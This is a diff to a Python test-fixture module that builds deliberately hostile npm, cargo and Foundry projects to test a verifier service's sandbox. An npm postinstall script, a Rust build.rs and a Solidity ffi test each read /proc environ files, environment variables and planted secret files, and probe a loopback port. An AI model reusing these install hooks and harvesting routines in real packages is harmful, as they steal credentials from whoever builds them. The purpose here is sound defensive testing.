@@ -1,7 +1,9 @@
 """Real components for the verifier policy tests: git repositories built with ``git`` in a temp
 directory (served over ``file://`` and over git's "dumb" HTTP protocol by a local aiohttp
-server), tiny npm and cargo projects with a passing and a failing commit, and a local HTTP server
-with images, a mislabelled page, an oversized image, a flaky endpoint and redirects."""
+server), tiny npm and cargo projects with a passing and a failing commit, hostile npm, cargo and
+forge projects that try to read the service's secrets and reach its loopback services, and a
+local HTTP server with images, a mislabelled page, an oversized image, a flaky endpoint and
+redirects."""
 
 from __future__ import annotations
 
@@ -210,6 +212,313 @@ def forge_repo(root: Path) -> GitRepo:
     repo.tag("v-fail", repo.commit("fail", {"test/Counter.t.sol": COUNTER_TEST_SOL.format(2)}))
     repo.serve_info()
     return repo
+
+
+@dataclass
+class Bait:
+    """What a hostile repository tries to reach: an environment variable of the test process, a
+    secret file outside the work dir, a loopback port. ``marker`` tags its processes' argv."""
+
+    env_name: str
+    env_value: str
+    # path -> its secret content
+    files: dict[str, str]
+    port: int
+    test_pid: int
+    marker: str
+
+    @property
+    def secrets(self) -> list[str]:
+        return [self.env_value, *self.files.values()]
+
+    def js(self) -> str:
+        return json.dumps(
+            {
+                "envName": self.env_name,
+                "files": sorted(self.files),
+                "port": self.port,
+                "testPid": self.test_pid,
+                "marker": self.marker,
+            }
+        )
+
+
+# Runs at `npm ci` (postinstall) and `npm test`: reads what it can, tries the port, prints it all
+# (what a real attacker would do through the logs), and exits 0.
+HOSTILE_JS = """const fs = require("fs");
+const net = require("net");
+const bait = BAIT;
+const stage = process.argv[2] || "?";
+function read(p) {
+  try { return fs.readFileSync(p).toString("utf8").split("\\0").join("\\n"); }
+  catch (e) { return "ERR " + e.code; }
+}
+function list(p) {
+  try { return fs.readdirSync(p); } catch (e) { return "ERR " + e.code; }
+}
+function write(p) {
+  try { fs.writeFileSync(p, "x"); return "WROTE"; } catch (e) { return "ERR " + e.code; }
+}
+const seen = { stage, pid: process.pid, ppid: process.ppid, uid: process.getuid() };
+seen.initEnviron = read("/proc/1/environ");
+seen.parentEnviron = read(`/proc/${process.ppid}/environ`);
+seen.testProcessEnviron = read(`/proc/${bait.testPid}/environ`);
+seen.procs = {};
+for (const d of fs.readdirSync("/proc")) {
+  if (/^\\d+$/.test(d)) {
+    seen.procs[d] = { environ: read(`/proc/${d}/environ`), cmdline: read(`/proc/${d}/cmdline`) };
+  }
+}
+seen.env = process.env;
+seen.secretEnv = process.env[bait.envName] || null;
+seen.files = {};
+for (const f of bait.files) seen.files[f] = read(f);
+seen.dirs = {};
+for (const d of ["/", "/root", "/home", "/work", "/tmp", "/etc", "/proc/self/root"]) {
+  seen.dirs[d] = list(d);
+}
+seen.writes = { usr: write("/usr/hostile"), etc: write("/etc/hostile") };
+const socket = net.connect({ host: "127.0.0.1", port: bait.port });
+const done = (what) => {
+  seen.connect = what;
+  console.log("HOSTILE-RAN " + JSON.stringify(seen));
+  process.exit(0);
+};
+socket.on("connect", () => { socket.destroy(); done("CONNECTED"); });
+socket.on("error", (e) => done("ERR " + e.code));
+setTimeout(() => done("ERR timeout"), 3000);
+"""
+
+
+def hostile_npm_files(bait: Bait) -> dict[str, str]:
+    package = {
+        "name": "hostile",
+        "version": "1.0.0",
+        "private": True,
+        "scripts": {"postinstall": "node hostile.js ci", "test": "node hostile.js test"},
+    }
+    lock = {**PACKAGE_LOCK, "name": "hostile"}
+    lock["packages"] = {"": {"name": "hostile", "version": "1.0.0", "hasInstallScript": True}}
+    return {
+        "package.json": json.dumps(package, indent=2) + "\n",
+        "package-lock.json": json.dumps(lock, indent=2) + "\n",
+        "hostile.js": HOSTILE_JS.replace("BAIT", bait.js()),
+    }
+
+
+def hanging_npm_files(marker: str) -> dict[str, str]:
+    """``npm test`` starts a child in a session of its own (out of its process group), then
+    waits forever; both carry ``marker`` in their argv."""
+    script = (
+        'const { spawn } = require("child_process");\n'
+        f'spawn("sh", ["-c", "sleep 1000; : {marker}"], {{ detached: true, stdio: "ignore" }})'
+        ".unref();\n"
+        'console.log("HANGING");\n'
+        "setInterval(() => {}, 1000);\n"
+    )
+    files = npm_files(script)
+    package = json.loads(files["package.json"])
+    package["scripts"]["test"] = f"node test.js {marker}"
+    files["package.json"] = json.dumps(package, indent=2) + "\n"
+    return files
+
+
+HOSTILE_BUILD_RS = """use std::io::Write;
+use std::time::Duration;
+
+fn read(path: &str) -> String {
+    match std::fs::read(path) {
+        Ok(bytes) => String::from_utf8_lossy(&bytes).replace(['\\0', '\\n'], " | "),
+        Err(e) => format!("ERR {e}"),
+    }
+}
+
+fn say(line: String) {
+    println!("cargo:warning={}", line.replace('\\n', " | "));
+    std::io::stdout().flush().unwrap();
+}
+
+fn main() {
+    let ppid = std::os::unix::process::parent_id();
+    say(format!("HOSTILE-BUILD-RAN pid={} ppid={ppid}", std::process::id()));
+    say(format!("init environ: {}", read("/proc/1/environ")));
+    say(format!("parent environ: {}", read(&format!("/proc/{ppid}/environ"))));
+    say(format!("test process environ: {}", read("/proc/TEST_PID/environ")));
+    if let Ok(entries) = std::fs::read_dir("/proc") {
+        for entry in entries.flatten() {
+            let name = entry.file_name().to_string_lossy().to_string();
+            if name.chars().all(|c| c.is_ascii_digit()) {
+                say(format!("/proc/{name}/environ: {}", read(&format!("/proc/{name}/environ"))));
+            }
+        }
+    }
+    for (key, value) in std::env::vars_os() {
+        say(format!("env {}={}", key.to_string_lossy(), value.to_string_lossy()));
+    }
+    say(format!("secret env: {:?}", std::env::var_os("ENV_NAME")));
+    for file in FILES {
+        say(format!("file {file}: {}", read(file)));
+    }
+    for dir in ["/", "/root", "/home", "/work", "/tmp"] {
+        let names: Vec<String> = match std::fs::read_dir(dir) {
+            Ok(entries) => entries
+                .flatten()
+                .map(|e| e.file_name().to_string_lossy().to_string())
+                .collect(),
+            Err(e) => vec![format!("ERR {e}")],
+        };
+        say(format!("dir {dir}: {names:?}"));
+    }
+    let address = "127.0.0.1:PORT".parse().unwrap();
+    match std::net::TcpStream::connect_timeout(&address, Duration::from_secs(3)) {
+        Ok(_) => say("connect: CONNECTED".to_string()),
+        Err(e) => say(format!("connect: ERR {e}")),
+    }
+}
+"""
+
+
+def hostile_cargo_files(bait: Bait) -> dict[str, str]:
+    files = ", ".join(json.dumps(f) for f in sorted(bait.files))
+    build = (
+        HOSTILE_BUILD_RS.replace("TEST_PID", str(bait.test_pid))
+        .replace("ENV_NAME", bait.env_name)
+        .replace("FILES", f"[{files}]")
+        .replace("PORT", str(bait.port))
+    )
+    manifest = CARGO_TOML.replace('name = "fixture"', 'name = "hostile"').replace(
+        'edition = "2021"', 'edition = "2021"\nbuild = "build.rs"'
+    )
+    return {
+        "Cargo.toml": manifest,
+        "build.rs": build,
+        "src/lib.rs": "#[test]\nfn runs() { assert_eq!(1 + 1, 2); }\n",
+    }
+
+
+# ffi on and the whole filesystem readable, as far as the repository can say so: in the file's
+# default profile, in a profile its .env selects, in kebab-case, and through FOUNDRY_CONFIG.
+HOSTILE_FOUNDRY_TOML = """[profile.default]
+src = "src"
+test = "test"
+ffi = true
+fs_permissions = [{ access = "read", path = "/" }]
+allow_paths = ["/"]
+
+[profile.evil]
+src = "src"
+test = "test"
+ffi = true
+fs-permissions = [{ access = "read-write", path = "/" }]
+"""
+HOSTILE_SOL = """// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+interface Vm {
+    function ffi(string[] calldata) external returns (bytes memory);
+    function readFile(string calldata) external view returns (string memory);
+    function envOr(string calldata, string calldata) external view returns (string memory);
+    function createSelectFork(string calldata) external returns (uint256);
+}
+
+contract HostileTest {
+    Vm constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
+
+    function test_marker() public pure {
+        revert("HOSTILE-FORGE-RAN");
+    }
+
+    function test_ffi() public {
+        string[] memory cmd = new string[](3);
+        cmd[0] = "sh";
+        cmd[1] = "-c";
+        cmd[2] = "cat /proc/1/environ /proc/*/environ FILES; env";
+        revert(string(abi.encodePacked("FFI-OUTPUT ", vm.ffi(cmd))));
+    }
+READS
+    function test_env() public view {
+        revert(string(abi.encodePacked("ENV ", vm.envOr("ENV_NAME", string("absent")))));
+    }
+
+    function test_fork() public {
+        vm.createSelectFork("http://127.0.0.1:PORT");
+        revert("FORKED");
+    }
+}
+"""
+_READ_TEST = """
+    function test_read_NAME() public view {
+        revert(string(abi.encodePacked("READ ", vm.readFile("PATH"))));
+    }
+"""
+
+
+def hostile_forge_files(bait: Bait) -> dict[str, str]:
+    paths = ["/proc/1/environ", "/etc/passwd", *sorted(bait.files)]
+    reads = "".join(
+        _READ_TEST.replace("NAME", str(i)).replace("PATH", path) for i, path in enumerate(paths)
+    )
+    test = (
+        HOSTILE_SOL.replace("READS", reads)
+        .replace("FILES", " ".join(sorted(bait.files)))
+        .replace("ENV_NAME", bait.env_name)
+        .replace("PORT", str(bait.port))
+    )
+    return {
+        "foundry.toml": HOSTILE_FOUNDRY_TOML,
+        # forge loads .env; what is already set (FOUNDRY_CONFIG) is not overridden.
+        ".env": "FOUNDRY_CONFIG=foundry.toml\nFOUNDRY_PROFILE=evil\n",
+        "src/Counter.sol": COUNTER_SOL,
+        "test/Hostile.t.sol": test,
+    }
+
+
+def hostile_repo(root: Path, name: str, files: dict[str, str]) -> GitRepo:
+    """A repository ``acme/<name>`` whose one commit (tag ``v-hostile``) holds ``files``."""
+    repo = GitRepo(root, "acme", name).init()
+    repo.tag("v-hostile", repo.commit("hostile", files))
+    repo.serve_info()
+    return repo
+
+
+class LoopbackListener:
+    """A TCP port on 127.0.0.1 that counts the connections made to it (none may be)."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.sock.setblocking(False)
+        self.port = int(self.sock.getsockname()[1])
+        self._accepted = 0
+
+    def accepted(self) -> int:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except BlockingIOError:
+                return self._accepted
+            conn.close()
+            self._accepted += 1
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+def processes_with(marker: str) -> list[int]:
+    """The pids whose argv holds ``marker`` (zombies have none), this process excepted."""
+    needle = marker.encode()
+    found: list[int] = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit() or int(entry) == os.getpid():
+            continue
+        try:
+            with open(f"/proc/{entry}/cmdline", "rb") as handle:
+                if needle in handle.read():
+                    found.append(int(entry))
+        except OSError:
+            continue
+    return found
 
 
 def free_port() -> int:
